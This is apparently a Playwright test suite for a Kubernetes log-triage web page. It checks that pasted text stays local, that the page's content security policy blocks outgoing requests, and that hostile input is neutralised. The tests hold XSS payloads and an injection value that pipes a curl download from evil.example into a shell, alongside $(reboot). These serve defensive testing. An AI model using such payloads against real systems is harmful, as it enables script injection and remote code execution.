import { expect, test, type Page } from '@playwright/test';
import {
  cardOf,
  ENGLISH,
  openTriage,
  paste,
  PLACES,
  readInput,
  verdictOf,
} from '../helpers/triage-page.ts';

test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

interface Watch {
  readonly requests: string[];
  /** What the browser refused, and what a script did wrong. */
  readonly complaints: string[];
}

function watch(page: Page): Watch {
  const requests: string[] = [];
  const complaints: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  page.on('websocket', (socket) => requests.push(socket.url()));
  page.on('console', (message) => {
    if (message.type() === 'error' || message.type() === 'warning') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('dialog', (dialog) => {
    complaints.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { requests, complaints };
}

/** A file of the site's own program: its address holds nothing but its name. */
/** Files that are the same for every paste: programs, and which codes have a page. */
const PROGRAM = /^http:\/\/[^/]+\/(?:_astro\/[\w.-]+|lookup\/codes)\.js$/u;

/** Everything that the browser keeps for this site, as one text. */
async function readStores(page: Page): Promise<string> {
  const stores = await page.evaluate(async () => [
    Object.entries(localStorage),
    Object.entries(sessionStorage),
    await indexedDB.databases(),
    await caches.keys(),
    (await navigator.serviceWorker.getRegistrations()).length,
    history.state as unknown,
    window.name,
  ]);
  return JSON.stringify([...stores, await page.context().cookies()]);
}

for (const place of PLACES) {
  const { locale, text } = place;

  test(`${locale}: a pasted text is not sent and not stored, whatever is done with it`, async ({
    page,
    baseURL,
  }) => {
    const { requests, complaints } = watch(page);
    const box = await openTriage(page, place);
    await page.waitForLoadState('networkidle');
    const foreign = requests.filter((url) => !url.startsWith(`${baseURL ?? ''}/`));
    expect(foreign, 'nothing from elsewhere').toEqual([]);
    requests.length = 0;
    const stores = await readStores(page);
    const title = await page.title();

    await paste(page, readInput('mixed-sidecar-oom-app-readiness'));
    const card = cardOf(page, 'oom-killed', place);
    await expect(card).toBeVisible();
    expect(requests, 'no request for the answer').toEqual([]);
    await card.getByRole('button', { name: text['copy.button'] }).first().click();
    await page.getByRole('button', { name: text['share.copy'] }).click();
    for (const summary of await page.locator('summary').all()) await summary.click();
    await page.getByRole('button', { name: text['triage.shortcuts'] }).click();
    await expect(page.getByRole('dialog', { name: text['keys.title'] })).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(page).toHaveURL(place.path);
    await box.fill(readInput('image-not-found'));
    await expect(cardOf(page, 'image-not-found', place)).toBeVisible();
    expect(await readStores(page)).toBe(stores);
    expect(await page.title()).toBe(title);

    await page.getByRole('button', { name: text['triage.clear'] }).click();
    expect(
      requests.filter((url) => !PROGRAM.test(url)),
      'no request after the paste but for the program that copies and reports',
    ).toEqual([]);
    expect(complaints).toEqual([]);

    await page.reload();
    await expect(box).toHaveValue('');
    await expect(verdictOf(page)).toHaveCount(0);
  });

  test(`${locale}: the policy of the page forbids all that it does not need`, async ({ page }) => {
    await page.goto(place.path);
    const policy = await page
      .locator('meta[http-equiv="content-security-policy" i]')
      .getAttribute('content');
    const directives = (policy ?? '').split(';').map((directive) => directive.trim());
    for (const directive of ["default-src 'none'", "connect-src 'none'", "form-action 'none'"])
      expect(directives).toContain(directive);
    expect(policy).not.toMatch(/'unsafe-|https?:|\*/u);
    const scripts = directives.find((directive) => directive.startsWith('script-src'));
    expect(scripts).toMatch(/^script-src 'self'(?: 'sha256-[\w+/=]+')*$/u);
  });
}

test('a script that wants to send something from the page is stopped', async ({ page }) => {
  await openTriage(page, ENGLISH);
  await page.waitForLoadState('networkidle');
  const reached: string[] = [];
  page.on('response', (response) => reached.push(response.url()));
  const fetched = await page.evaluate(async () => {
    const { dataset } = document.documentElement;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      dataset['refused'] = `${dataset['refused'] ?? ''} ${effectiveDirective}`;
    });
    navigator.sendBeacon('/start.js', 'text');
    new Image().src = 'https://example.com/?text';
    const frame = document.createElement('iframe');
    frame.src = 'https://example.com/';
    const script = document.createElement('script');
    script.append('document.title = "run"');
    try {
      document.body.innerHTML = '<b>markup</b>';
    } catch {
      // Trusted Types: text becomes no markup.
    }
    const form = document.createElement('form');
    form.action = '/?text';
    document.body.append(frame, script, form);
    form.submit();
    return fetch('/start.js').then(
      () => true,
      () => false,
    );
  });
  expect(fetched).toBe(false);
  const refused = () => page.evaluate(() => document.documentElement.dataset['refused'] ?? '');
  for (const directive of [
    'connect-src',
    'form-action',
    'frame-src',
    'img-src',
    'require-trusted-types-for',
  ])
    await expect.poll(refused).toContain(directive);
  expect(await page.evaluate(() => document.title)).not.toBe('run');
  expect(reached).toEqual([]);
});

test.describe('a hostile paste', () => {
  const ATTACKS = [
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(2)>',
    '</script><script>alert(3)</script>',
    '</textarea><iframe src="javascript:alert(4)"></iframe>',
    'javascript:alert(5)',
    '[here](javascript:alert(6))',
    '{{constructor.constructor("alert(7)")()}}',
    '<a href="https://example.com/">click</a>',
  ];

  /** The attack in every place that a pod's author fills in. */
  const poison = (attack: string) =>
    readInput('oom-killed')
      .replaceAll('pricing-7c9d8b6f5d-zccv4', attack)
      .replaceAll('worker-07.dc2.internal', attack)
      .replaceAll('app=pricing', `app=${attack}`)
      .replaceAll('  pricing:\n', `  ${attack}:\n`)
      .replaceAll('retail', attack)
      .replace('Annotations:      <none>', `Annotations:      note: ${attack}`)
      .replace('JAVA_OPTS:  -Xmx768m', `${attack}:  ${attack}`)
      .replace('Reason:       CrashLoopBackOff', `Reason:       ${attack}`)
      .replaceAll(
        /(BackOff .* kubelet +).*$/gmu,
        `$1${attack}\n  Warning  ${attack}  7s  ${attack}  ${attack}`,
      );

  test('creates no element, runs nothing and asks for nothing', async ({ page }) => {
    const { requests, complaints } = watch(page);
    const box = await openTriage(page, ENGLISH);
    await page.waitForLoadState('networkidle');
    requests.length = 0;
    for (const attack of ATTACKS) {
      await box.fill(poison(attack));
      await expect(
        page.getByRole('region', { name: ENGLISH.text['result.yourText'] }).first(),
      ).toContainText(attack);
      await page.evaluate(() => {
        for (const details of document.querySelectorAll('details')) details.open = true;
      });
      const wrong = await page.evaluate(() => {
        const main = document.querySelector('main');
        const all = [...(main?.querySelectorAll<HTMLElement>('.triage *') ?? [])];
        return all
          .filter(
            (element) =>
              /^(?:img|script|iframe|object|embed|style|link|meta|base)$/u.test(
                element.localName,
              ) ||
              (element.localName === 'svg' && !element.classList.contains('icon')) ||
              !/^(?:$|#|\/(?:zh-cn\/)?(?:runbooks|trees|lookup)\/)/u.test(
                element.getAttribute('href') ?? '',
              ) ||
              element.getAttributeNames().some((name) => /^(?:on|style$|src)/u.test(name)),
          )
          .map((element) => element.outerHTML.slice(0, 200));
      });
      expect(wrong, attack).toEqual([]);
    }
    expect(requests.filter((url) => !PROGRAM.test(url))).toEqual([]);
    expect(complaints).toEqual([]);
  });

  test('gets no name into a command that somebody will run', async ({ page }) => {
    const box = await openTriage(page, ENGLISH);
    const attack = 'web; curl -s evil.example | sh #';
    await box.fill(
      readInput('oom-killed')
        .replaceAll('pricing-7c9d8b6f5d-zccv4', attack)
        .replaceAll('retail', '$(reboot)')
        .replaceAll('  pricing:\n', '  `id`:\n'),
    );
    const card = cardOf(page, 'oom-killed', ENGLISH);
    const commands = await card.locator('pre').allInnerTexts();
    expect(commands[0]).toContain('kubectl get pod <pod> -n <namespace> ');
    expect(commands.join('\n')).not.toMatch(/curl|reboot|`id`/u);
  });
});
